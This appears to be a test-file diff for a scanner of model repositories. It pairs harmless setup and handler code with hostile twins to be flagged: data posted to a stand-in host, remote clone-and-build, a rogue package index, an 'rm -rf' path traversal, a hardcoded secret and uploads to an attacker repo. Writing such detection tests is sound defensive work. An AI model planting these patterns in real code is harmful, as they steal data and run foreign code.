@@ -1,0 +1,106 @@
+"""What honest repositories do in forms that hostile ones have too: each with the twin that must still be told."""
+
+import pytest
+
+from modelscan_plus.core.finding import Severity
+from tests.samples import inspect_tree
+
+CONFIG = '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}'
+
+
+def denied(name: str, code: str, **more: str) -> bool:
+    files = {name: code} | ({"config.json": CONFIG} if name == "modeling_x.py" else {})
+    files |= {each.replace("___", "/") + ".py": text for each, text in more.items()}
+    found = inspect_tree({path: text.encode() for path, text in files.items()})
+    return any(finding.severity.rank >= Severity.HIGH.rank for finding in found)
+
+
+HASH = (
+    "import os, subprocess\nfrom setuptools import setup\n"
+    "def ask(cmd):\n    env = {k: os.environ[k] for k in ('PATH', 'HOME') if k in os.environ}\n"
+    "    return subprocess.Popen(cmd, stdout=subprocess.PIPE, env=env).communicate()[0]\n"
+    "setup(name='x', version=ask(['git', 'rev-parse', 'HEAD']).decode())\n"
+)
+PUBLISH = (
+    "import os, sys\nfrom setuptools import Command, setup\n"
+    "if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    sys.exit()\n"
+    "class Upload(Command):\n    def run(self):\n        os.system('twine upload dist/*')\n"
+    "setup(name='x', cmdclass={'upload': Upload})\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("code", "twin"),
+    [
+        (HASH, HASH.replace("['git', 'rev-parse', 'HEAD']", "open('notes').read()")),
+        (HASH, HASH + "ask(['sh', 'notes'])\n"),
+        (PUBLISH, PUBLISH.replace("'publish'", "'egg_info'")),
+        (PUBLISH, PUBLISH.replace("sys.argv[-1]", "sys.argv[0]")),
+        (PUBLISH, PUBLISH.replace("{'upload'", "{'install'")),
+        (PUBLISH, PUBLISH + "Upload(None).run()\n"),
+        (PUBLISH, PUBLISH.replace("'upload': Upload", "'upload': Upload, 'build_py': Upload")),
+    ],
+)
+def test_setup(code: str, twin: str) -> None:
+    assert not denied("setup.py", code)
+    assert denied("setup.py", twin)
+
+
+def test_arguments_decide_in_setup_only() -> None:
+    code = "import os, sys\nif 'publish' in sys.argv:\n    os.system('twine upload dist/*')\n"
+    assert not denied("setup.py", code)
+    assert denied("modeling_x.py", code)
+
+
+HANDLER = (
+    "import boto3, os, requests, subprocess\nclass EndpointHandler:\n    def __init__(self, path=''):\n        {}\n"
+    "    def __call__(self, data):\n        {}\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("start", "call", "expected"),
+    [
+        ("self.s3 = boto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])", "pass", False),
+        ("self.s3 = boto3.client('s3', aws_secret_access_key='8kq0Zx')", "pass", True),
+        ("pass", "requests.post(data.get('callback_url'), json={'result': 1})", False),
+        ("pass", "requests.post(data.get('callback_url', 'https://c.example/r'), json=data)", True),
+        ("pass", "requests.post(self.place, json=data)", True),
+        ("pass", "os.system('rm -rf /tmp/frames && mkdir -p /tmp/frames')", False),
+        ("pass", "os.system('rm -rf /tmp/../home && mkdir -p /tmp/frames')", True),
+        ("pass", "os.system('git clone https://c.example/r && cd r && make')", True),
+        ("pass", "os.system('mkdir x; sh r')", True),
+        ("subprocess.run('pip install -r requirements.txt', shell=True)", "pass", False),
+    ],
+)
+def test_handlers(start: str, call: str, expected: bool) -> None:
+    assert denied("handler.py", HANDLER.format(start, call)) is expected
+
+
+def test_a_server_installs_packages_and_a_model_does_not() -> None:
+    install = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', {}])\n"
+    assert not denied("handler.py", install.format("'av'"))
+    assert denied("handler.py", install.format("'--index-url', 'https://c.example/simple', 'av'"))
+    assert denied("modeling_x.py", install.format("'av'"))
+
+
+PUSHES = (
+    "from huggingface_hub import HfApi\nclass M:\n"
+    "    def push_to_hub(self, place, repo_id):\n"
+    "        HfApi().upload_folder(folder_path=place, repo_id=repo_id)\n"
+    "    def save_pretrained(self, place, **given):\n"
+    "        self.push_to_hub(place, given['repo_id'])\n"
+)
+
+
+@pytest.mark.parametrize(
+    "twin",
+    [
+        "for found in HfApi().list_models():\n            self.push_to_hub('.', found.id)",
+        "self.push_to_hub('.', 'c/loot')",
+        "place = name()\n        self.push_to_hub('.', repo_id=place)",
+    ],
+)
+def test_uploads_go_where_the_caller_says(twin: str) -> None:
+    assert not denied("modeling_x.py", PUSHES)
+    assert denied("modeling_x.py", f"{PUSHES}    def forward(self, x):\n        {twin}\n")
